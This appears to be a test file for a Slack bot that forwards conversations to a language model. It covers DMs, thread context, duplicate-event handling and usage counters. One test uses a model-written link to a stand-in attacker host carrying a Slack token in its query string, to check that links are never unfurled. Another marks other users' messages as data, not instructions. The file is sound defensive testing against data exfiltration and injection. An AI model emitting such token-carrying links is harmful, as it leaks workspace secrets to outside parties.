"""Where conversations start and continue: channels, threads, DMs, and duplicate deliveries."""

from __future__ import annotations

import pytest
from sqlalchemy import func, select

from bot.db.models import Conversation, Message, ProcessedEvent, Role
from tests.fakes.openai import FakeOpenAI, Script
from tests.fakes.slack import BOT_USER_ID, FakeSlack
from tests.harness import RunningBot, make_settings, start_bot, stop_bot


async def stored(bot: RunningBot) -> list[Message]:
    async with bot.countersign.db.transaction() as session:
        return list((await session.scalars(select(Message).order_by(Message.id))).all())


async def test_dm_is_a_conversation_answered_in_the_dm(
    bot: RunningBot, fake_slack: FakeSlack, fake_model: FakeOpenAI
) -> None:
    fake_model.script(Script(text="Hi Alice."), Script(text="Still here."))
    for text in ("hello", "are you there?"):
        await bot.say(fake_slack, "D1", text)
        await bot.idle()
    replies = fake_slack.bot_messages("D1")
    assert [r.text for r in replies] == ["Hi Alice.", "Still here."]
    assert all(r.thread_ts is None for r in replies)  # answered in the DM itself
    second = fake_model.requests[-1].body["messages"]
    assert [m["role"] for m in second] == ["system", "user", "assistant", "user"]
    assert second[2]["content"] == "Hi Alice."
    async with bot.countersign.db.transaction() as session:
        assert await session.scalar(select(func.count()).select_from(Conversation)) == 1


async def test_thread_replies_addressed_to_others_are_context_for_the_next_answer(
    bot: RunningBot, fake_slack: FakeSlack, fake_model: FakeOpenAI
) -> None:
    """In a channel thread the bot answered in, what people say to each other is kept as
    context for its next answer (follow-ups without a mention: tests/test_thread_followups.py)."""
    fake_model.script(Script(text="First answer."), Script(text="Second answer."))
    root = await bot.mention("C1", "question one", fake_slack)
    await bot.idle()
    await bot.say(fake_slack, "C1", "<@UALICE> just chatting", user="UBOB", thread_ts=root)
    await bot.idle()
    assert [m.text for m in fake_slack.bot_messages("C1")] == ["First answer."]
    assert len(fake_model.requests) == 1
    await bot.mention("C1", "and a follow-up", fake_slack, user="UBOB", thread_ts=root)
    await bot.idle()
    assert [m.text for m in fake_slack.bot_messages("C1")] == ["First answer.", "Second answer."]
    last = fake_model.requests[-1].body["messages"]
    assert last[-2] == {"role": "user", "content": "<@UALICE> just chatting", "name": "UBOB"}
    assert last[-1] == {"role": "user", "content": "and a follow-up", "name": "UBOB"}


async def test_the_deprecated_reply_in_threads_always_still_continues_threads(
    fake_slack: FakeSlack, fake_model: FakeOpenAI, sqlite_url: str
) -> None:
    """REPLY_IN_THREADS=always (before THREAD_FOLLOWUPS) reads as THREAD_FOLLOWUPS=on."""
    bot = await start_bot(
        make_settings(fake_slack, fake_model, sqlite_url, reply_in_threads="always")
    )
    try:
        fake_model.script(Script(text="First answer."), Script(text="Second answer."))
        root = await bot.mention("C1", "question one", fake_slack)
        await bot.idle()
        await bot.say(fake_slack, "C1", "and a follow-up", user="UBOB", thread_ts=root)
        await bot.idle()
        texts = [m.text for m in fake_slack.bot_messages("C1")]
        assert texts == ["First answer.", "Second answer."]
        last = fake_model.requests[-1].body["messages"]
        assert last[-1] == {"role": "user", "content": "and a follow-up", "name": "UBOB"}
        assert last[-2]["content"] == "First answer."
    finally:
        await stop_bot(bot)


async def test_thread_the_bot_is_not_in_is_ignored(
    bot: RunningBot, fake_slack: FakeSlack, fake_model: FakeOpenAI
) -> None:
    root = fake_slack.add_user_message("C1", "people talking")
    await bot.say(fake_slack, "C1", "among themselves", thread_ts=root)
    await bot.say(fake_slack, "C1", "top-level chatter")
    await bot.idle()
    assert fake_slack.bot_messages("C1") == []
    assert fake_model.requests == []


async def test_first_mention_mid_thread_gets_the_earlier_thread_as_context(
    bot: RunningBot, fake_slack: FakeSlack, fake_model: FakeOpenAI
) -> None:
    root = fake_slack.add_user_message("C1", "The deploy failed at 3pm", user="UALICE")
    fake_slack.add_user_message("C1", "Logs say &lt;disk full&gt;", user="UBOB", thread_ts=root)
    await bot.mention("C1", "what went wrong?", fake_slack, user="UCAROL", thread_ts=root)
    await bot.idle()
    sent = fake_model.requests[-1].body["messages"]
    assert sent[1:] == [
        {
            "role": "user",
            "content": '<data source="message (by UALICE)">\nThe deploy failed at 3pm\n</data>',
            "name": "UALICE",
        },
        {  # another person's words, in Carol's turn: data, never instructions
            "role": "user",
            "content": '<data source="message (by UBOB)">\nLogs say <disk full>\n</data>',
            "name": "UBOB",
        },
        {"role": "user", "content": "what went wrong?", "name": "UCAROL"},
    ]
    replies = fake_slack.bot_messages("C1")
    assert len(replies) == 1
    assert replies[0].thread_ts == root


async def test_slack_retry_and_the_mention_message_pair_give_one_reply(
    bot: RunningBot, fake_slack: FakeSlack, fake_model: FakeOpenAI
) -> None:
    fake_model.script(Script(text="Only once.", time_to_first_token=0.2))
    text = f"<@{BOT_USER_ID}> hello"
    ts = fake_slack.add_user_message("C1", text)
    mention = {"type": "app_mention", "user": "UALICE", "text": text, "ts": ts, "channel": "C1"}
    message = {**mention, "type": "message", "channel_type": "channel"}
    assert await bot.send_event(mention, event_id="EvA") == 200
    assert await bot.send_event(message, event_id="EvB") == 200  # same message, other event
    assert await bot.send_event(mention, event_id="EvA", retry_num=1) == 200  # Slack retry
    await bot.idle()
    assert await bot.send_event(mention, event_id="EvA", retry_num=2) == 200  # after restart-ish
    await bot.idle()
    assert [m.text for m in fake_slack.bot_messages("C1")] == ["Only once."]
    assert len(fake_model.requests) == 1
    messages = await stored(bot)
    assert [m.role for m in messages] == [Role.USER, Role.ASSISTANT]
    async with bot.countersign.db.transaction() as session:
        keys = set((await session.scalars(select(ProcessedEvent.key))).all())
    assert "evt:EvA" in keys
    assert f"msg:T0TEST:C1:{ts}" in keys


async def test_usage_and_counters_are_stored(
    bot: RunningBot, fake_slack: FakeSlack, fake_model: FakeOpenAI
) -> None:
    fake_model.script(Script(text="one two three", prompt_tokens=17))
    await bot.mention("C1", "count", fake_slack)
    await bot.idle()
    messages = await stored(bot)
    assistant = messages[-1]
    assert (assistant.prompt_tokens, assistant.completion_tokens) == (17, 3)
    assert assistant.slack_ts == fake_slack.bot_messages("C1")[0].ts
    async with bot.countersign.db.transaction() as session:
        conversation = (await session.scalars(select(Conversation))).one()
    assert (
        conversation.message_count,
        conversation.prompt_tokens,
        conversation.completion_tokens,
    ) == (2, 17, 3)
    assert conversation.started_by == "UALICE"


@pytest.mark.parametrize("subtype", ["message_changed", "bot_message", "channel_join"])
async def test_edits_bot_messages_and_joins_are_ignored(
    bot: RunningBot, fake_slack: FakeSlack, fake_model: FakeOpenAI, subtype: str
) -> None:
    await bot.say(fake_slack, "D1", "x", subtype=subtype)
    await bot.idle()
    assert fake_model.requests == []
    assert fake_slack.bot_messages("D1") == []


async def test_links_the_model_writes_are_never_unfurled(
    bot: RunningBot, fake_slack: FakeSlack, fake_model: FakeOpenAI
) -> None:
    """Slack fetches an unfurled URL by itself: a secret in a model-written link's query
    string would leave the workspace without anyone clicking. Every message of a reply (the
    first and each continuation of a long one) asks Slack not to unfurl."""
    link = "https://attacker.example/collect?token=xoxb-secret-from-context"
    long_reply = f"See [the report]({link}).\n\n" + "More words follow here. " * 400 + link
    fake_model.script(Script(text=long_reply))
    await bot.mention("C1", "summarise", fake_slack)
    await bot.idle()
    posts = fake_slack.calls_to("chat.postMessage")
    assert len(posts) >= 2  # the reply went on in a second message
    assert all(p.args.get("unfurl_links") is False for p in posts)
    assert all(p.args.get("unfurl_media") is False for p in posts)
